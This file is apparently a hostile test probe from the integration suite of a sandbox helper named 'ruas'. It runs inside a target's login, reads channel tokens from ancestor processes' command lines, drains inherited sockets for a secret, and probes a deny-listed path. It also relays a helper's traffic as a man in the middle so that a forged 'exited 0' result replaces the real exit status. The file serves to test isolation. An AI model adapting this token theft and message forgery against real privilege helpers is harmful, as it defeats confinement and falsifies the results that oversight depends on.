#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""confine_spy.py EVIDENCE SECRET LABEL SHELL_IN_HOST [FORBIDDEN] - hostile login code.

Run by a target's login files (tests/integration/confine.sh). It does what
code that runs as the target before, or beside, the ruas helper can do, and
appends what it found to EVIDENCE as JSON lines: one once it has looked
(phase "read"), one more once it has written its forged EXIT everywhere
(phase "forged"; a run that ends under it may leave only the first).

  ns         its own PID namespace (readlink /proc/self/ns/pid)
  shell_in_host  SHELL_IN_HOST, which the login shell that runs it found
             out itself ("yes" when the shell is in the sandbox's own PID
             namespace: `[ /proc/self/ns/pid -ef FILE ]`, a builtin, no fork)
  pid, ppid  its own, as it sees them
  channels   the abstract sockets named @ruas-channel-* in /proc/net/unix
  tokens     the channel tokens on its ancestors' command lines (sudo's
             `--channel TOKEN`), each of which it connects to, reads and
             writes a forged EXIT into (stolen)
  fds        each of its descriptors 3..20: what it is, and for a socket
             how many bytes and descriptors it read from it (non-blocking),
             and whether the forged EXIT could be written into it
  secret     where SECRET was seen: in its environment, read from a
             descriptor or from a channel (raw or hex-encoded, as the
             payload carries it); [] when nowhere
  forbidden  for FORBIDDEN (a path the person's deny list hides): whether
             it could read it

On a channel it reached by a token (the old sudo backend) it does not just
read: it is the man in the middle. It takes the payload (and, for a spawn,
the agent's stdin, stdout and stderr), starts the real helper on a
socketpair of its own with them (`ruas-exec --channel-fd N`, the path from
the same command line), and relays every message between the two, but for
the helper's EXIT, which it replaces with the forged one. The check or the
agent then runs as if nothing happened, and only the exit status lies.
It exits 42 when it did that to a spawn, 43 to a check (the login file
then ends the shell with exit 0, before the shell's own helper fails to
reach the taken channel; for a check at once, so that the check passes
and the spawn comes), 0 otherwise.

It prints nothing itself (the helper it starts may, where the real one
would) and never blocks for long but in that relay: every read is
non-blocking or has a deadline. The forged EXIT is the old wire's "the
agent exited 0, no survivors": length 9, type 6, EXITED, code 0, count 0.
"""
import json
import os
import select
import socket
import stat
import sys
import time

FORGED = b"\x00\x00\x00\x09\x06\x01" + b"\x00" * 8


def main():
    evidence, secret, label, shell_in_host = sys.argv[1:5]
    forbidden = sys.argv[5] if len(sys.argv) > 5 else ""
    raw = secret.encode()
    forms = [raw, raw.hex().encode(), raw.hex().upper().encode()]

    def has_secret(data):
        return any(f in data for f in forms)

    rec = {"label": label, "pid": os.getpid(), "ppid": os.getppid(), "uid": os.getuid(),
           "shell_in_host": shell_in_host, "phase": "read"}
    try:
        rec["ns"] = os.readlink("/proc/self/ns/pid")
    except OSError as e:
        rec["ns"] = "error:%s" % e.strerror
    seen = []
    rec["secret"] = seen
    if any(secret in v for v in os.environ.values()):
        seen.append("environ")

    # The descriptors it inherited, before it opens any of its own: read
    # what each socket holds now.
    inherited = []
    for fd in range(3, 21):
        try:
            inherited.append((fd, os.fstat(fd)))
        except OSError:
            pass
    fds, socks = {}, {}
    for fd, st in inherited:
        try:
            what = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            what = "?"
        entry = {"what": what}
        fds[fd] = entry
        if not stat.S_ISSOCK(st.st_mode):
            continue
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError as e:
            entry["error"] = e.strerror
            continue
        got, nfds = probe_socket(s)
        entry["read"], entry["fds_received"] = len(got), nfds
        if has_secret(got):
            seen.append("fd%d" % fd)
        socks[fd] = s
    rec["fds"] = fds

    # Every channel the host shows, and the ones its ancestors name.
    names = []
    try:
        with open("/proc/net/unix") as f:
            for line in f:
                parts = line.split()
                if len(parts) >= 8 and parts[-1].startswith("@ruas-channel-"):
                    names.append(parts[-1])
    except OSError as e:
        names.append("error:%s" % e.strerror)
    rec["channels"] = sorted(set(names))
    tokens = ancestor_tokens()
    rec["tokens"] = [tok for tok, _ in tokens]
    stolen, relays = {}, []
    for tok, helper in tokens:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2.0)
        try:
            s.connect("\0ruas-channel-" + tok)
        except OSError as e:
            stolen[tok] = {"connect": e.strerror}
            s.close()
            continue
        msg, mfds = recv_message(s)
        stolen[tok] = {"connect": "ok", "read": len(msg), "fds_received": len(mfds)}
        if has_secret(msg):
            seen.append("channel")
        if msg and helper:
            relays.append((tok, s, helper, msg, mfds))
        else:
            for fd in mfds:
                os.close(fd)
            s.close()
    rec["stolen"] = stolen
    if forbidden:
        try:
            with open(forbidden, "rb") as f:
                rec["forbidden"] = "read:" + f.read(200).decode("latin-1").strip()
        except OSError as e:
            rec["forbidden"] = "denied:%s" % e.strerror
    # What it saw, before it forges anything: forging may end the run
    # under it (and it with it).
    write(evidence, rec)

    for fd, s in socks.items():
        fds[fd]["forged"] = forge(s, fds[fd])
        s.close()
    relayed = 0
    for tok, s, helper, msg, mfds in relays:
        # A spawn's payload comes with the agent's stdio; a check's alone.
        relayed = max(relayed, 42 if len(mfds) == 3 else 43)
        stolen[tok]["kind"] = "spawn" if len(mfds) == 3 else "check"
        stolen[tok]["forged"] = middle(s, helper, msg, mfds)
    rec["phase"] = "forged"
    write(evidence, rec)
    return relayed


def recv_message(s, wait=2.0):
    """One whole channel message (header and body) from s, with the
    descriptors that came along: (bytes, [fd...]); what came by the
    deadline when it is cut short."""
    got, fds = b"", []
    deadline = time.monotonic() + wait
    want = 5
    while len(got) < want:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        s.settimeout(left)
        try:
            data, anc, _, _ = s.recvmsg(want - len(got), socket.CMSG_SPACE(16 * 4))
        except OSError:
            break
        fds += fds_of(anc)
        if not data:
            break
        got += data
        if len(got) >= 5:
            want = 5 + int.from_bytes(got[:4], "big")
    return got, fds


def fds_of(anc):
    out = []
    for level, kind, body in anc:
        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
            for i in range(len(body) // 4):
                out.append(int.from_bytes(body[4 * i:4 * i + 4], sys.byteorder))
    return out


def middle(chan, helper, msg, fds):
    """The man in the middle (see above): whether it forged the helper's EXIT."""
    a, b = socket.socketpair()
    os.set_inheritable(b.fileno(), True)
    pid = os.fork()
    if pid == 0:
        try:
            a.close()
            chan.close()
            os.execv(helper, [helper, "--channel-fd", str(b.fileno())])
        finally:
            os._exit(127)
    b.close()
    socket.send_fds(a, [msg], fds)
    for fd in fds:
        os.close(fd)
    chan.settimeout(None)
    a.settimeout(None)
    forged, pending = False, b""
    ends = {chan: a, a: chan}
    while ends:
        r, _, _ = select.select(list(ends), [], [])
        for src in r:
            try:
                data = src.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                del ends[src]
                continue
            if src is chan:
                try:
                    a.sendall(data)
                except OSError:
                    pass
                continue
            # The helper's messages: EXIT (type 6) becomes the forged one.
            pending += data
            while len(pending) >= 5 and len(pending) >= 5 + int.from_bytes(pending[:4], "big"):
                n = 5 + int.from_bytes(pending[:4], "big")
                m, pending = pending[:n], pending[n:]
                if m[4] == 6:
                    m, forged = FORGED, True
                try:
                    chan.sendall(m)
                except OSError:
                    pass
        if a not in ends:
            break
    os.waitpid(pid, 0)
    chan.close()
    a.close()
    return forged


def forge(s, entry):
    """Writes the forged EXIT into s: whether it all went."""
    try:
        return s.send(FORGED, socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL) == len(FORGED)
    except OSError as e:
        entry["send_error"] = e.strerror
        return False


def write(evidence, rec):
    line = (json.dumps(rec, sort_keys=True) + "\n").encode()
    fd = os.open(evidence, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
    os.write(fd, line)
    os.close(fd)


def probe_socket(s, wait=0.3):
    """Reads what s has (waiting up to `wait` for a first byte, then only
    what is there), with any descriptors sent along, which it closes:
    the bytes and how many descriptors came."""
    got, nfds = b"", 0
    deadline = time.monotonic() + wait
    s.setblocking(False)
    while len(got) < (32 << 20):
        left = deadline - time.monotonic()
        try:
            r, _, _ = select.select([s], [], [], max(left, 0) if not got else 0)
        except (OSError, ValueError):
            break
        if not r:
            break
        try:
            data, anc, _, _ = s.recvmsg(1 << 16, socket.CMSG_SPACE(16 * 4))
        except BlockingIOError:
            break
        except OSError:
            break
        for level, kind, body in anc:
            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                for i in range(len(body) // 4):
                    nfds += 1
                    try:
                        os.close(int.from_bytes(body[4 * i:4 * i + 4], sys.byteorder))
                    except OSError:
                        pass
        if not data:
            break
        got += data
    return got, nfds


def ancestor_tokens():
    """The `--channel TOKEN` arguments on the command lines of its ancestors
    (sudo's), each with the helper's path before it: [(token, path)]."""
    tokens, pid = [], os.getppid()
    for _ in range(16):
        if pid <= 1:
            break
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = f.read().split(b"\0")
            with open("/proc/%d/stat" % pid) as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for i, a in enumerate(argv[:-1]):
            if a == b"--channel" and argv[i + 1]:
                helper = argv[i - 1].decode("latin-1") if i > 0 else ""
                tokens.append((argv[i + 1].decode("latin-1"), helper if helper.startswith("/") else ""))
        pid = ppid
    return tokens


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Exception as e:  # never break the login shell by itself
        sys.stderr.write("confine_spy: %r\n" % (e,))
